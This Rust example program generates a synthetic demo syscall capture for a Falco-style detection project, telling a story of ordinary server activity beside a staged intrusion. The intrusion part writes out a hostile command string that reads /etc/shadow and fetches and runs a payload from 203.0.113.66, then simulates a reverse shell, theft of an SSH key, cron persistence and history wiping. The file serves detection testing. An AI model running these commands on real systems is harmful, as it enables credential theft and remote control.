//! Makes the capture that the project ships: `cargo run -p falco-capture --example make_demo --
//! sensor/demo/demo.scap`. The same program always makes the same bytes.
//!
//! Nothing in it was recorded: `stage` builds each event as the kernel probe would, `process` keeps
//! what events say of their process, and this file tells the story. One web server in a container, one visitor who is no customer, one user whose key
//! was stolen, and around them a machine that does its work and must stay silent.

mod process;
mod stage;

use std::process::ExitCode;

use process::{Process, User};
use stage::{Addr, Result, Stage};

/// The attacker, in a network that is reserved for documentation.
const ATTACKER: [u8; 4] = [203, 0, 113, 66];
/// A visitor of the web site, in another one.
const VISITOR: [u8; 4] = [198, 51, 100, 23];
const HOST: [u8; 4] = [10, 0, 0, 5];
const CONTAINER: [u8; 4] = [172, 17, 0, 2];

const WEB: &str = "3c0f7d5f1e4a9b28c6d1e0f4a7b3928150cd7e6f8a9b0c1d2e3f405162738495";

fn main() -> ExitCode {
    let Some(path) = std::env::args().nth(1) else {
        eprintln!("say where to write: make_demo FILE");
        return ExitCode::FAILURE;
    };
    match tell(&path) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("{path}: {error}");
            ExitCode::FAILURE
        }
    }
}

/// Writes the capture to `path`.
pub fn tell(path: &str) -> Result {
    let root = || User { uid: 0, gid: 0, name: "root", home: "/root", shell: "/bin/bash" };
    let alice =
        User { uid: 1000, gid: 1000, name: "alice", home: "/home/alice", shell: "/bin/bash" };
    let www =
        User { uid: 33, gid: 33, name: "www-data", home: "/var/www", shell: "/usr/sbin/nologin" };

    // What ran before the recording.
    let init = Process::new(1, 0, "/usr/lib/systemd/systemd", "/sbin/init", &root());
    let sshd =
        Process::new(812, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", &root())
            .listening(22);
    let cron = Process::new(640, 1, "/usr/sbin/cron", "/usr/sbin/cron -f", &root());
    let shim = Process::new(
        1480,
        1,
        "/usr/bin/containerd-shim-runc-v2",
        "containerd-shim-runc-v2 -namespace moby",
        &root(),
    );
    let nginx = Process::new(1502, 1480, "/usr/sbin/nginx", "nginx: master process nginx", &root())
        .in_container(WEB, 1)
        .listening(80);
    let worker = Process::new(1530, 1502, "/usr/sbin/nginx", "nginx: worker process", &www)
        .in_container(WEB, 29)
        .listening(80);
    let login = Process::new(2210, 812, "/usr/sbin/sshd", "sshd: alice@pts/0", &alice);
    let shell = Process::new(2213, 2210, "/usr/bin/bash", "-bash", &alice)
        .on_terminal(0, 1000)
        .at("/home/alice/");

    let mut stage = Stage::begin(
        path,
        &[&init, &sshd, &cron, &shim, &nginx, &worker, &login, &shell],
        &[&root(), &alice],
        HOST,
    )?;
    stage.container_user(WEB, &www)?;

    let (mut cron, mut worker, mut shell) = (cron, worker, shell);
    an_ordinary_morning(&mut stage, &mut cron, &mut worker, &mut shell)?;
    through_the_web_server(&mut stage, &mut worker)?;
    let mut sshd = sshd;
    with_the_stolen_key(&mut stage, &mut sshd)?;
    an_ordinary_morning(&mut stage, &mut cron, &mut worker, &mut shell)?;
    stage.finish()
}

/// What must stay silent: a cron job, a page that is served, a user who works.
fn an_ordinary_morning(
    stage: &mut Stage,
    cron: &mut Process,
    worker: &mut Process,
    shell: &mut Process,
) -> Result {
    let mut job = stage.fork(cron)?;
    stage.exec(&mut job, "/bin/sh", &["/bin/sh", "-c", "run-parts /etc/cron.hourly"])?;
    stage.read_file(&mut job, "/etc/cron.hourly", 0)?;
    let mut rotate = stage.fork(&mut job)?;
    stage.exec(&mut rotate, "/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"])?;
    stage.read_file(&mut rotate, "/etc/logrotate.conf", 1400)?;
    stage.write_file(&mut rotate, "/var/lib/logrotate/status", 220)?;
    stage.exit(rotate, 0)?;
    stage.exit(job, 0)?;

    stage.pause_ms(1200);
    for port in [51_244, 51_250, 51_261] {
        let visit = stage.accept(worker, Addr(VISITOR, port), Addr(CONTAINER, 80))?;
        stage.receive(worker, visit, b"GET /index.html HTTP/1.1\r\nHost: shop.example\r\n\r\n")?;
        stage.read_file(worker, "/usr/share/nginx/html/index.html", 3120)?;
        stage.send(
            worker,
            visit,
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<!doctype",
        )?;
        stage.close(worker, visit)?;
        stage.pause_ms(300);
    }

    for words in [
        &["/usr/bin/ls", "-l"][..],
        &["/usr/bin/cat", "notes.txt"],
        &["/usr/bin/git", "status", "--short"],
        &["/usr/bin/grep", "-rn", "TODO", "src"],
    ] {
        let mut command = stage.fork(shell)?;
        stage.exec(&mut command, words[0], words)?;
        let file = match words[0] {
            "/usr/bin/cat" => "/home/alice/notes.txt",
            "/usr/bin/git" => "/home/alice/.git/index",
            "/usr/bin/grep" => "/home/alice/src/main.py",
            _ => "/etc/passwd",
        };
        stage.read_file(&mut command, file, 900)?;
        stage.write(&mut command, 1, b"a line for the terminal\n")?;
        stage.exit(command, 0)?;
        stage.pause_ms(2500);
    }
    let mut editor = stage.fork(shell)?;
    stage.exec(&mut editor, "/usr/bin/vim", &["vim", "notes.txt"])?;
    stage.read_file(&mut editor, "/home/alice/notes.txt", 900)?;
    stage.write_file(&mut editor, "/home/alice/notes.txt", 940)?;
    stage.exit(editor, 0)
}

/// A request makes the web server run a shell, and from there on somebody else is at work in the
/// container.
fn through_the_web_server(stage: &mut Stage, worker: &mut Process) -> Result {
    stage.pause_ms(4000);
    let visit = stage.accept(worker, Addr(ATTACKER, 40_112), Addr(CONTAINER, 80))?;
    stage.receive(
        worker,
        visit,
        b"POST /upload.php?cmd=id HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    )?;

    // The web server spawns a shell.
    let mut sh = stage.fork(worker)?;
    let command = "cat /etc/shadow; curl -so /tmp/.x http://203.0.113.66/x; /tmp/.x";
    stage.exec(&mut sh, "/bin/sh", &["sh", "-c", command])?;

    // It looks at the password hashes, and is refused: it is not root.
    let mut cat = stage.fork(&mut sh)?;
    stage.exec(&mut cat, "/usr/bin/cat", &["cat", "/etc/shadow"])?;
    stage.open_refused(&mut cat, "/etc/shadow")?;
    stage.exit(cat, 1)?;

    // It fetches a program that the image does not have.
    let mut curl = stage.fork(&mut sh)?;
    stage.exec(&mut curl, "/usr/bin/curl", &["curl", "-so", "/tmp/.x", "http://203.0.113.66/x"])?;
    let socket = stage.connect(&mut curl, Addr(CONTAINER, 38_870), Addr(ATTACKER, 80))?;
    stage.send(&mut curl, socket, b"GET /x HTTP/1.1\r\nHost: 203.0.113.66\r\n\r\n")?;
    stage.receive(&mut curl, socket, b"HTTP/1.1 200 OK\r\n\r\n\x7fELF\x02\x01\x01")?;
    stage.write_file(&mut curl, "/tmp/.x", 16_640)?;
    stage.close(&mut curl, socket)?;
    stage.exit(curl, 0)?;

    // The program runs from the container's writable layer ...
    let mut dropper = stage.fork(&mut sh)?;
    stage.exec_dropped(&mut dropper, "/tmp/.x", &["/tmp/.x"])?;

    // ... unpacks another one into memory and runs it from there ...
    let mut loader = stage.fork(&mut dropper)?;
    stage.exec_from_memory(&mut loader, "kworker", &["[kworker/u8:2]"])?;
    stage.read_file(&mut loader, "/proc/self/status", 1100)?;
    stage.exit(loader, 0)?;

    // ... and gives its master a shell over the network.
    let mut shell = stage.fork(&mut dropper)?;
    let socket = stage.connect(&mut shell, Addr(CONTAINER, 38_902), Addr(ATTACKER, 4444))?;
    for fd in 0..3 {
        stage.dup2(&mut shell, socket, fd)?;
    }
    stage.exec(&mut shell, "/bin/bash", &["/bin/bash", "-i"])?;
    for words in [&["id"][..], &["uname", "-a"], &["ls", "/var/www"]] {
        let mut command = stage.fork(&mut shell)?;
        stage.exec(&mut command, &format!("/usr/bin/{}", words[0]), words)?;
        stage.write(&mut command, 1, b"uid=33(www-data) gid=33(www-data)\n")?;
        stage.exit(command, 0)?;
        stage.pause_ms(1800);
    }
    stage.exit(shell, 0)?;
    stage.exit(dropper, 0)?;
    stage.exit(sh, 0)?;
    stage.close(worker, visit)
}

/// Root's key was found on another machine; now its finder logs in to stay.
fn with_the_stolen_key(stage: &mut Stage, sshd: &mut Process) -> Result {
    stage.pause_ms(9000);
    let visit = stage.accept(sshd, Addr(ATTACKER, 51_900), Addr(HOST, 22))?;
    let mut session = stage.fork(sshd)?;
    stage.close(sshd, visit)?;
    stage.exec(&mut session, "/usr/sbin/sshd", &["sshd: root [priv]", "-R"])?;
    // Logging in reads the very file that a stranger must not; sshd may.
    stage.read_file(&mut session, "/etc/shadow", 1100)?;
    stage.read_file(&mut session, "/root/.ssh/authorized_keys", 560)?;

    let mut bash = stage.fork(&mut session)?;
    stage.take_terminal(&mut bash, 1, 0)?;
    stage.exec(&mut bash, "/bin/bash", &["-bash"])?;
    stage.read_file(&mut bash, "/root/.bashrc", 570)?;

    // Everybody's password hashes, and this time nothing refuses.
    let mut cat = stage.fork(&mut bash)?;
    stage.exec(&mut cat, "/usr/bin/cat", &["cat", "/etc/shadow"])?;
    stage.read_file(&mut cat, "/etc/shadow", 1100)?;
    stage.write(&mut cat, 1, b"root:$y$j9T$...:20468:0:99999:7:::\n")?;
    stage.exit(cat, 0)?;

    // The next machine's key.
    let mut cat = stage.fork(&mut bash)?;
    stage.exec(&mut cat, "/usr/bin/cat", &["cat", "/root/.ssh/id_ed25519"])?;
    stage.read_file(&mut cat, "/root/.ssh/id_ed25519", 411)?;
    stage.write(&mut cat, 1, b"-----BEGIN OPENSSH PRIVATE KEY-----\n")?;
    stage.exit(cat, 0)?;

    // A job that brings him back every minute.
    let mut tee = stage.fork(&mut bash)?;
    stage.exec(&mut tee, "/usr/bin/tee", &["tee", "/etc/cron.d/sysupdate"])?;
    stage.write_file(&mut tee, "/etc/cron.d/sysupdate", 74)?;
    stage.exit(tee, 0)?;

    // And nobody shall know.
    let mut rm = stage.fork(&mut bash)?;
    stage.exec(&mut rm, "/usr/bin/rm", &["rm", "-f", "/root/.bash_history"])?;
    stage.unlink(&mut rm, "/root/.bash_history")?;
    stage.exit(rm, 0)?;

    stage.exit(bash, 0)?;
    stage.exit(session, 0)
}
